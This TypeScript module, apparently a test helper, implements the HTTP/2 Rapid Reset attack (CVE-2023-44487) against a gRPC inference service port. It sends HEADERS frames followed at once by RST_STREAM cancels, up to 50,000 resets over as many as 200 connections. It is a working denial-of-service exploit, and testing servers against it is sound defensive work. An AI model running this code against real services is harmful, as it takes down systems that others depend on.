/** Calls that are opened and reset at once (CVE-2023-44487), again on a new connection when cut off. */
import { callHeaders, Flag, Frame, frame, RawHttp2 } from "./raw-http2.ts";

const RESETS = 50_000;
const CONNECTIONS_AT_MOST = 200;
const LIMIT_MS = 30_000;

export async function rapidReset(port: number) {
  const headers = callHeaders("/inference.GRPCInferenceService/ModelInfer");
  const cancel = Buffer.from([0, 0, 0, 8]);
  const end = performance.now() + LIMIT_MS;
  let resets = 0;
  let connections = 0;
  while (resets < RESETS && connections < CONNECTIONS_AT_MOST && performance.now() < end) {
    const raw = await RawHttp2.open(port);
    connections += 1;
    for (let stream = 1; raw.ended === undefined && resets < RESETS; ) {
      const pieces: Buffer[] = [];
      for (let at = 0; at < 100; at += 1, stream += 2, resets += 1) {
        pieces.push(frame(Frame.HEADERS, Flag.END_HEADERS, stream, headers));
        pieces.push(frame(Frame.RST_STREAM, 0, stream, cancel));
      }
      if (!raw.send(Buffer.concat(pieces))) await raw.room();
      else await new Promise((resolve) => setImmediate(resolve));
    }
    raw.close();
  }
  return { resets, connections };
}
